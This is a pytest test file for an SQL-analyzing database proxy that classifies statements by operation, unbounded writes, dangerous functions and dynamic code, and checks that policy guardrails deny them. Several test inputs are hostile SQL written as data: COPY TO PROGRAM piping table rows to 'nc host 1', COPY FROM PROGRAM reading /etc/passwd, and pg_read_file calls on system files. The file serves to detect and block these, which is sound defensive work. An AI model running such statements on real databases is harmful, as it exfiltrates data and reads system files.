"""Operations: what a statement executes or wires in, unbounded writes, code in bodies."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from steward_proxy.policy import compile_documents, decide
from steward_proxy.session import Judge
from steward_proxy.sql import (
    Operation,
    ShapeCache,
    SQLSyntaxError,
    StatementInfo,
    analyze,
    as_executed,
)
from steward_proxy.sql.plpgsql import PlpgsqlError, body_sql

from sessionkit import IDENTITY


def one(sql: str) -> StatementInfo:
    (info,) = analyze(sql, cache=ShapeCache(0))
    return info


def ops(sql: str) -> list[tuple[object, ...]]:
    """Each operation as a short tuple: (command, table) plus what else is set."""
    out = []
    for op in one(sql).operations:
        row: tuple[object, ...] = (op.command, op.table)
        if op.unbounded:
            row += ("unbounded",)
        if op.copy:
            row += (f"copy={op.copy}",)
        if op.language:
            row += (f"language={op.language}",)
        out.append(row)
    return out


T, U, Q = "public.t", "public.u", "public.q"

OPERATIONS: dict[str, tuple[str, list[tuple[object, ...]]]] = {
    "a plain SELECT reads its table": ("SELECT * FROM t", [("SELECT", T)]),
    "a SELECT of no table is one SELECT": ("SELECT 1", [("SELECT", None)]),
    "a data-modifying CTE deletes and its RETURNING reads": (
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        [("DELETE", T, "unbounded"), ("SELECT", T)],
    ),
    "an UPDATE in WITH under an INSERT": (
        "WITH x AS (UPDATE t SET a = 1 WHERE id = 2) INSERT INTO u VALUES (1)",
        [("INSERT", U), ("UPDATE", T)],
    ),
    "EXPLAIN ANALYZE runs the DELETE": (
        "EXPLAIN ANALYZE DELETE FROM t",
        [("EXPLAIN", None), ("DELETE", T, "unbounded")],
    ),
    "plain EXPLAIN runs nothing, but names the table": (
        "EXPLAIN DELETE FROM t",
        [("EXPLAIN", T)],
    ),
    "INSERT ... SELECT inserts into one table and reads the other": (
        "INSERT INTO t SELECT * FROM u",
        [("INSERT", T), ("SELECT", U)],
    ),
    "UPDATE ... FROM writes the target and reads the source": (
        "UPDATE t SET a = u.a FROM u WHERE t.id = u.id",
        [("UPDATE", T), ("SELECT", U)],
    ),
    "DELETE ... USING writes the target and reads the source": (
        "DELETE FROM t USING u WHERE t.id = u.id",
        [("DELETE", T), ("SELECT", U)],
    ),
    "an upsert also updates": (
        "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2",
        [("INSERT", T), ("UPDATE", T)],
    ),
    "MERGE writes its target with each action and reads its source": (
        "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE "
        "WHEN NOT MATCHED THEN INSERT VALUES (u.id)",
        [("MERGE", T), ("DELETE", T), ("INSERT", T), ("SELECT", U)],
    ),
    "MERGE ON true deletes every row": (
        "MERGE INTO t USING u ON true WHEN MATCHED THEN DELETE",
        [("MERGE", T), ("DELETE", T, "unbounded"), ("SELECT", U)],
    ),
    "MERGE NOT MATCHED BY SOURCE with ON false deletes every row": (
        "MERGE INTO t USING u ON false WHEN NOT MATCHED BY SOURCE THEN DELETE",
        [("MERGE", T), ("DELETE", T, "unbounded"), ("SELECT", U)],
    ),
    "COPY FROM STDIN copies from the client and inserts": (
        "COPY t FROM STDIN",
        [("COPY", T, "copy=stdio"), ("INSERT", T)],
    ),
    "COPY TO a file reads the table": (
        "COPY t TO '/tmp/t.csv'",
        [("COPY", T, "copy=file"), ("SELECT", T)],
    ),
    "COPY FROM PROGRAM": (
        "COPY t FROM PROGRAM 'cat /etc/passwd'",
        [("COPY", T, "copy=program"), ("INSERT", T)],
    ),
    "COPY (query) TO PROGRAM copies every table the query reads": (
        "COPY (SELECT * FROM t JOIN u USING (id)) TO PROGRAM 'nc host 1'",
        [("COPY", T, "copy=program"), ("COPY", U, "copy=program"), ("SELECT", T), ("SELECT", U)],
    ),
    "COPY of a query without tables": ("COPY (SELECT 1) TO STDOUT", [("COPY", None, "copy=stdio")]),
    "CREATE TABLE AS creates and reads": (
        "CREATE TABLE t AS SELECT * FROM u",
        [("SELECT", U), ("CREATE", T)],
    ),
    "SELECT INTO creates and reads": (
        "SELECT * INTO t FROM u",
        [("CREATE", T), ("SELECT", U)],
    ),
    "PREPARE is a PREPARE and what EXECUTE will run": (
        "PREPARE p AS DELETE FROM t",
        [("PREPARE", None), ("DELETE", T, "unbounded")],
    ),
    "DECLARE runs its query": (
        "DECLARE c CURSOR FOR SELECT * FROM t",
        [("DECLARE", None), ("SELECT", T)],
    ),
    "a view wires in its query": (
        "CREATE VIEW v AS SELECT * FROM t",
        [("CREATE", "public.v"), ("SELECT", T)],
    ),
    "a rule wires in its actions": (
        "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM q",
        [("CREATE", T), ("DELETE", Q, "unbounded")],
    ),
    "a rule action bounded by a column of the row it deletes": (
        "CREATE RULE r AS ON DELETE TO t DO ALSO DELETE FROM q WHERE q.id = OLD.id",
        [("CREATE", T), ("DELETE", Q)],
    ),
    "a rule action bounded only by NEW deletes every row when it fires": (
        "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM q WHERE NEW.id = 1",
        [("CREATE", T), ("DELETE", Q, "unbounded")],
    ),
    "a BEGIN ATOMIC body is wired in": (
        "CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END",
        [("CREATE", None, "language=sql"), ("DELETE", T, "unbounded")],
    ),
    "a SQL string body is parsed": (
        "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'UPDATE t SET a = 1'",
        [("CREATE", None, "language=sql"), ("UPDATE", T, "unbounded")],
    ),
    "a LANGUAGE written as a string is read the same": (
        "CREATE FUNCTION f() RETURNS void LANGUAGE 'sql' AS $$ UPDATE t SET a = 1 $$",
        [("CREATE", None, "language=sql"), ("UPDATE", T, "unbounded")],
    ),
    "a PL/pgSQL function body is parsed, EXECUTE in it is DYNAMIC": (
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN "
        "INSERT INTO t VALUES (1); EXECUTE 'SELECT 1'; END $$",
        [("CREATE", None, "language=plpgsql"), ("INSERT", T), ("DYNAMIC", None),
         ("SELECT", None)],
    ),
    "a C function is opaque": (
        "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'sym'",
        [("CREATE", None, "language=c")],
    ),
    "a DO block's static SQL is its own": (
        "DO $$ BEGIN DELETE FROM t WHERE true; INSERT INTO u SELECT * FROM q; END $$",
        [("DO", None, "language=plpgsql"), ("DELETE", T, "unbounded"), ("INSERT", U),
         ("SELECT", Q)],
    ),
    "a DO block's conditions, assignments and cursors are read": (
        "DO $$ DECLARE c CURSOR FOR SELECT * FROM q; n int := (SELECT count(*) FROM t); "
        "BEGIN IF EXISTS (SELECT 1 FROM u) THEN n := (SELECT 1 FROM q); END IF; END $$",
        [("DO", None, "language=plpgsql"), ("SELECT", Q), ("SELECT", U), ("SELECT", T)],
    ),
    "a DO block with EXECUTE of a constant reads that SQL too": (
        "DO $$ BEGIN EXECUTE 'DELETE FROM t'; END $$",
        [("DO", None, "language=plpgsql"), ("DYNAMIC", None), ("DELETE", T, "unbounded")],
    ),
    "a DO block with EXECUTE of built text is DYNAMIC": (
        "DO $$ BEGIN EXECUTE format('DELETE FROM %I', 't'); END $$",
        [("DO", None, "language=plpgsql"), ("DYNAMIC", None)],
    ),
    "FOR ... IN EXECUTE, OPEN ... FOR EXECUTE and RETURN QUERY EXECUTE are DYNAMIC": (
        "DO $$ DECLARE r record; c refcursor; BEGIN FOR r IN EXECUTE 'x' || 1 LOOP END LOOP; "
        "OPEN c FOR EXECUTE 'y' || 2; END $$",
        [("DO", None, "language=plpgsql"), ("DYNAMIC", None)],
    ),
    "COMMIT in a DO block is an operation": (
        "DO $$ BEGIN COMMIT; END $$",
        [("DO", None, "language=plpgsql"), ("COMMIT", None)],
    ),
    "a DO block in another language is opaque": (
        "DO LANGUAGE plpython3u $$ plpy.execute('DELETE FROM t') $$",
        [("DO", None, "language=plpython3u"), ("DYNAMIC", None)],
    ),
    "a DO block PL/pgSQL refuses is opaque": (
        "DO $$ BEGIN undeclared := 1; END $$",
        [("DO", None, "language=plpgsql"), ("DYNAMIC", None)],
    ),
    "a DO block nested in a DO block": (
        "DO $a$ BEGIN EXECUTE 'SELECT 1'; DO $b$ BEGIN DELETE FROM t; END $b$; END $a$",
        [("DO", None, "language=plpgsql"), ("DELETE", T, "unbounded"), ("DYNAMIC", None),
         ("SELECT", None)],
    ),
    "query_to_xml is DYNAMIC and its constant query is read": (
        "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')",
        [("DYNAMIC", None), ("DELETE", T, "unbounded"), ("SELECT", T)],
    ),
    "dblink is DYNAMIC in FROM, its connection string is no SQL": (
        "SELECT * FROM dblink('dbname=x', 'SELECT a FROM t') AS r(a int)",
        [("DYNAMIC", None), ("SELECT", T)],
    ),
    "table_to_xml reads a table named by a value": (
        "SELECT table_to_xml('t', true, false, '')",
        [("SELECT", None), ("DYNAMIC", None)],
    ),
    "an operator bound to query_to_xml is DYNAMIC": (
        "CREATE OPERATOR ~~~ (LEFTARG = text, FUNCTION = query_to_xml)",
        [("CREATE", None), ("DYNAMIC", None)],
    ),
    "DROP names its tables": ("DROP TABLE t, s.u", [("DROP", T), ("DROP", "s.u")]),
    "DROP ROLE names none": ("DROP ROLE bob", [("DROP", None)]),
    "TRUNCATE names its tables": ("TRUNCATE t", [("TRUNCATE", T)]),
    "ALTER TABLE names its table": ("ALTER TABLE t ADD COLUMN c int", [("ALTER", T)]),
    "GRANT names its table": ("GRANT SELECT ON t TO bob", [("GRANT", T)]),
    "CALL stays an opaque CALL": ("CALL p(1)", [("CALL", None)]),
    "SET is a SET": ("SET work_mem = '64MB'", [("SET", None)]),
    "a quoted, schema-qualified, mixed-case target keeps its spelling": (
        'DeLeTe FrOm "Sch"."T" WHERE 1 = 1',
        [("DELETE", "Sch.T", "unbounded")],
    ),
}  # fmt: skip


@pytest.mark.parametrize(
    ("sql", "expected"), [pytest.param(s, e, id=name) for name, (s, e) in OPERATIONS.items()]
)
def test_operations(sql: str, expected: list[tuple[object, ...]]) -> None:
    assert ops(sql) == expected


UNBOUNDED: dict[str, tuple[str, bool]] = {
    "no WHERE": ("", True),
    "a real filter": ("WHERE id = 5", False),
    "a parameter filter": ("WHERE id = $1", False),
    "true": ("WHERE true", True),
    "false": ("WHERE false", False),
    "1=1": ("WHERE 1 = 1", True),
    "1=2": ("WHERE 1 = 2", False),
    "'a'='a'": ("WHERE 'a' = 'a'", True),
    "'a'='b'": ("WHERE 'a' = 'b'", False),
    "1<2": ("WHERE 1 < 2", True),
    "2<1": ("WHERE 2 < 1", False),
    "'a'<'b' depends on the collation: unbounded": ("WHERE 'b' < 'a'", True),
    "1='1' is coerced: unbounded": ("WHERE 1 = '1'", True),
    "NOT false": ("WHERE NOT false", True),
    "NOT true": ("WHERE NOT true", False),
    "NOT (1=2)": ("WHERE NOT (1 = 2)", True),
    "an OR with a constant-true branch": ("WHERE id = 5 OR 1 = 1", True),
    "an AND with a constant-true branch": ("WHERE id = 5 AND 1 = 1", False),
    "an OR of false and NULL": ("WHERE false OR NULL", False),
    "IS NOT NULL of a constant": ("WHERE 1 IS NOT NULL", True),
    "IS NULL of a constant": ("WHERE 1 IS NULL", False),
    "IS NULL of NULL": ("WHERE NULL IS NULL", True),
    "a cast of a constant": ("WHERE 't'::boolean", True),
    "a cast of 1 to boolean": ("WHERE CAST(1 AS boolean)", True),
    "a cast of 0 to boolean": ("WHERE 0::bool", False),
    "a string read as a boolean": ("WHERE 'yes'", True),
    "a string read as false": ("WHERE 'off'", False),
    "casts on both sides": ("WHERE '1'::int = 1::bigint", True),
    "text casts that differ": ("WHERE '1'::text = '01'::text", False),
    "integer casts of texts that are equal as numbers": ("WHERE '1'::int = '01'::int", True),
    "IS DISTINCT FROM": ("WHERE 1 IS DISTINCT FROM 2", True),
    "IS NOT DISTINCT FROM": ("WHERE 1 IS NOT DISTINCT FROM 2", False),
    "IS TRUE of a constant": ("WHERE (1 = 1) IS TRUE", True),
    "IS UNKNOWN of NULL": ("WHERE NULL::boolean IS UNKNOWN", True),
    "NULL": ("WHERE NULL", False),
    "a function of no column": ("WHERE now() > '2000-01-01'", True),
    "a subquery of no column": ("WHERE EXISTS (SELECT 1)", True),
    "a bare parameter": ("WHERE $1", True),
    "a column of another table only": ("WHERE other.x = 1", True),
    "WHERE CURRENT OF": ("WHERE CURRENT OF c", False),
    "a whole-row reference": ("WHERE t IS NOT NULL", False),
    "a qualified column of the target": ("WHERE t.id = 1 OR false", False),
    "IN of constants": ("WHERE 1 IN (1, 2)", True),
    "a deep chain of NOT": ("WHERE " + "NOT " * 300 + "false", True),
}


@pytest.mark.parametrize(
    ("where", "unbounded"), [pytest.param(w, u, id=name) for name, (w, u) in UNBOUNDED.items()]
)
def test_unbounded_where(where: str, unbounded: bool) -> None:
    for sql in (f"DELETE FROM t {where}", f"UPDATE t SET a = 1 {where}"):
        info = one(sql)
        assert info.unbounded is unbounded, sql
        assert info.has_where is not unbounded


def test_a_target_alias_is_the_row() -> None:
    assert one("DELETE FROM t AS x WHERE x.id = 1").unbounded is False
    assert one("DELETE FROM t AS x WHERE t.id = 1").unbounded is True


FUNCTIONS: dict[str, tuple[str, tuple[str, ...]]] = {
    "a function in a subquery": (
        "SELECT * FROM t WHERE a IN (SELECT pg_read_file(b) FROM u)",
        ("pg_read_file",),
    ),
    "a schema-qualified call": (
        "SELECT pg_catalog.pg_read_file('x')",
        ("pg_read_file", "pg_catalog.pg_read_file"),
    ),
    "named arguments": ("SELECT pg_read_file(filename => 'x')", ("pg_read_file",)),
    "ROWS FROM": ("SELECT * FROM ROWS FROM (pg_ls_dir('.'))", ("pg_ls_dir",)),
    "a column DEFAULT": (
        "CREATE TABLE t (a text DEFAULT pg_read_file('x'))",
        ("pg_read_file",),
    ),
    "an index expression": ("CREATE INDEX ON t (pg_read_file(a))", ("pg_read_file",)),
    "a SQL function body": (
        "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS 'SELECT pg_read_file(''x'')'",
        ("pg_read_file",),
    ),
    "a BEGIN ATOMIC body": (
        "CREATE FUNCTION f() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT pg_read_file('x'); END",
        ("pg_read_file",),
    ),
    "a PL/pgSQL body": (
        "CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql AS $$ BEGIN "
        "RETURN pg_read_file('x'); END $$",
        ("pg_read_file",),
    ),
    "a DO block": ("DO $$ BEGIN PERFORM pg_read_file('x'); END $$", ("pg_read_file",)),
    "an operator": (
        "CREATE OPERATOR === (LEFTARG = text, RIGHTARG = text, PROCEDURE = pg_read_file)",
        ("pg_read_file",),
    ),
    "an operator's estimators": (
        "ALTER OPERATOR === (text, text) SET (RESTRICT = evil_sel, JOIN = evil_join)",
        ("evil_sel", "evil_join"),
    ),
    "a trigger": (
        "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION app.evil()",
        ("evil", "app.evil"),
    ),
    "an event trigger": (
        "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION evil()",
        ("evil",),
    ),
    "an aggregate": (
        "CREATE AGGREGATE a (text) (SFUNC = pg_read_file, STYPE = text, FINALFUNC = fin)",
        ("pg_read_file", "fin"),
    ),
    "a cast": ("CREATE CAST (text AS int) WITH FUNCTION evil(text)", ("evil",)),
    "a type's I/O functions": (
        "CREATE TYPE ty (INPUT = ty_in, OUTPUT = 'ty_out')",
        ("ty_in", "ty_out"),
    ),
    "a rule action": (
        "CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT pg_read_file('x')",
        ("pg_read_file",),
    ),
    "an operator class support function": (
        "CREATE OPERATOR CLASS c FOR TYPE int USING btree"
        " AS OPERATOR 1 <, FUNCTION 1 cmp(int, int)",
        ("cmp",),
    ),
    "a planner support function": (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SUPPORT evil_support AS 'SELECT 1'",
        ("evil_support",),
    ),
    "a foreign data wrapper": (
        "CREATE FOREIGN DATA WRAPPER w HANDLER evil_handler VALIDATOR evil_validator",
        ("evil_handler", "evil_validator"),
    ),
    "a constant query given to query_to_xml": (
        "SELECT query_to_xml('SELECT pg_read_file(''/etc/passwd'')', true, false, '')",
        ("query_to_xml", "pg_read_file"),
    ),
}


@pytest.mark.parametrize(
    ("sql", "functions"), [pytest.param(s, f, id=name) for name, (s, f) in FUNCTIONS.items()]
)
def test_functions_wherever_they_are_named(sql: str, functions: tuple[str, ...]) -> None:
    assert set(functions) <= set(one(sql).functions)


def test_a_statement_of_pl_pgsql_is_recorded_with_its_body_scrubbed() -> None:
    info = one("DO $$ BEGIN DELETE FROM t WHERE ssn = '123-45-6789'; RAISE NOTICE 'x'; END $$")
    assert info.normalized == "DO $$ BEGIN DELETE FROM t WHERE ssn = $1; RAISE NOTICE $2; END $$"
    assert "123-45-6789" not in info.normalized
    other = one("DO LANGUAGE plperl $$ my $secret = 'x'; $$")
    assert other.normalized == "DO LANGUAGE plperl $1"


def test_a_body_holding_dollar_quotes_is_recorded_with_another_tag() -> None:
    info = one('DO $x$ BEGIN PERFORM $$a$$ AS "b$$c"; END $x$')
    assert info.normalized == 'DO $body1$ BEGIN PERFORM $1 AS "b$$c"; END $body1$'


LITERAL_DEPENDENT = [
    "DELETE FROM t WHERE 1 = 1",
    "UPDATE t SET a = 1 WHERE true",
    "DO $$ BEGIN NULL; END $$",
    "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'x'",
    "SELECT query_to_xml(1, true, false, '')",
    "MERGE INTO t USING u ON true WHEN MATCHED THEN DELETE",
]


@pytest.mark.parametrize("sql", LITERAL_DEPENDENT)
def test_analyses_that_read_literal_values_are_keyed_by_exact_text(sql: str) -> None:
    assert one(sql).literal_dependent is True


@pytest.mark.parametrize(
    "sql",
    [
        "UPDATE t SET a = 1 WHERE id = 5",
        "DELETE FROM t WHERE id = $1",
        "SELECT abalance FROM pgbench_accounts WHERE aid = 7",
        "DELETE FROM t USING u WHERE u.x = 1",
    ],
)
def test_hot_statements_stay_keyed_by_shape(sql: str) -> None:
    assert one(sql).literal_dependent is False


UNBOUNDED_POLICY = """\
apiVersion: steward.dev/v1alpha1
kind: DatabaseAccessPolicy
metadata: {name: unit}
spec:
  subjects: [{kind: User, name: alice}]
  defaultAction: allow
  guardrails:
    - {name: no-unbounded, match: {statements: [DELETE], withoutWhere: true}, action: deny}
    - {name: no-file-reads, match: {functions: [pg_read_file]}, action: deny}
    - {name: no-dynamic, match: {statements: [DYNAMIC]}, action: deny}
"""


def judge() -> Judge:
    import yaml

    policies = compile_documents(list(yaml.safe_load_all(UNBOUNDED_POLICY)))
    return Judge(policies.policies_for(IDENTITY))


@pytest.mark.parametrize(
    ("first", "second", "rule"),
    [
        pytest.param(
            "DELETE FROM t WHERE 1 = 2", "DELETE FROM t WHERE 1 = 1", "no-unbounded", id="1=2, 1=1"
        ),
        pytest.param(
            "DELETE FROM t WHERE id = 5 OR 'a' = 'b'",
            "DELETE FROM t WHERE id = 5 OR 'a' = 'a'",
            "no-unbounded",
            id="an OR branch",
        ),
        pytest.param("DELETE FROM t WHERE false", "DELETE FROM t WHERE true", "no-unbounded",
                     id="false, true"),
        pytest.param(
            "SELECT query_to_xml(1, true, false, '')",
            "SELECT query_to_xml('SELECT pg_read_file(''x'')', true, false, '')",
            "no-file-reads",
            id="query_to_xml",
        ),
        pytest.param(
            "CREATE FUNCTION f() RETURNS text LANGUAGE 'c' AS 'SELECT 1'",
            "CREATE FUNCTION f() RETURNS text LANGUAGE 'sql' AS 'SELECT pg_read_file(''x'')'",
            "no-file-reads",
            id="LANGUAGE as a string",
        ),
    ],
)  # fmt: skip
def test_the_judge_never_reuses_a_verdict_that_depends_on_literals(
    first: str, second: str, rule: str
) -> None:
    the_judge = judge()
    first_verdict = the_judge.judge(first)
    assert first_verdict.decision.rule != rule
    # Run twice: the first may be a cache miss, the second must not be a wrong hit.
    for _ in range(2):
        verdict = the_judge.judge(second)
        assert (verdict.decision.action, verdict.decision.rule) == ("deny", rule)
    assert the_judge.judge(first).decision == first_verdict.decision


def test_the_operation_type_is_public() -> None:
    assert Operation("DELETE", "public.t", unbounded=True).unbounded


def test_pl_pgsql_bodies_are_read_as_sql_text() -> None:
    body = body_sql(
        "DO $$ DECLARE v int; BEGIN v := (SELECT 1); SELECT a INTO v FROM t; "
        "EXECUTE 'x' || v; ROLLBACK; END $$"
    )
    assert body.statements == ["SELECT a        FROM t"]
    assert body.expressions == ["SELECT v ,  (SELECT 1)"]
    assert body.dynamic == ["SELECT 'x' || v"]
    assert body.transaction == ["ROLLBACK"]
    with pytest.raises(PlpgsqlError):
        body_sql("DO $$ BEGIN END")


BODY_WORDS = [
    "BEGIN", "END", ";", "DELETE", "FROM", "t", "WHERE", "1", "=", "'x'", "EXECUTE", "PERFORM",
    "IF", "THEN", "LOOP", "FOR", "r", "IN", "SELECT", ":=", "v", "DECLARE", "int", "(", ")",
    "$$", "$a$", "DO", "pg_read_file", "RAISE", "NOTICE", "COMMIT", "--", "/*", "*/", "\n",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(
        [
            "DO $q$ {} $q$",
            "DO $q$ BEGIN {} END $q$",
            "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $q$ BEGIN {} END $q$",
            "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $q$ {} $q$",
            "SELECT query_to_xml($q$ {} $q$, true, false, '')",
        ]
    ),
    st.lists(st.sampled_from(BODY_WORDS), max_size=30).map(" ".join) | st.text(max_size=40),
)
def test_code_in_bodies_only_raises_sqlsyntaxerror(template: str, body: str) -> None:
    try:
        infos = analyze(template.format(body), cache=ShapeCache(0))
    except SQLSyntaxError:
        return
    for info in infos:
        assert info.operations
        assert set(info.writes) <= set(info.tables)


def test_code_nested_deeper_than_the_bound_is_dynamic() -> None:
    sql = "DELETE FROM t"
    for depth in range(12):
        tag = f"$d{depth}$"
        sql = f"DO {tag} BEGIN {sql}; END {tag}"
    info = one(sql)
    assert ("DYNAMIC", None) in [(op.command, op.table) for op in info.operations]
    assert "public.t" not in info.tables


def test_statement_info_with_operations_survives_pickling() -> None:
    # The analysis pool sends StatementInfo between processes.
    import pickle

    info = one("DO $$ BEGIN DELETE FROM t; END $$")
    assert pickle.loads(pickle.dumps(info)) == info


def test_an_execute_is_judged_by_what_its_prepare_held() -> None:
    prepared = one("PREPARE p AS DELETE FROM t WHERE 1 = 1")
    execute = one("EXECUTE p")
    executed = as_executed(execute, prepared)
    assert (executed.command, executed.normalized) == ("EXECUTE", "EXECUTE p")
    assert [(op.command, op.table, op.unbounded) for op in executed.operations] == [
        ("EXECUTE", None, False),
        ("DELETE", T, True),
    ]
    assert executed.unbounded and not executed.has_where
    assert executed.writes == (T,)
    policies = judge().policies
    assert decide(policies, [executed]).rule == "no-unbounded"
    assert decide(policies, [execute]).action == "allow"
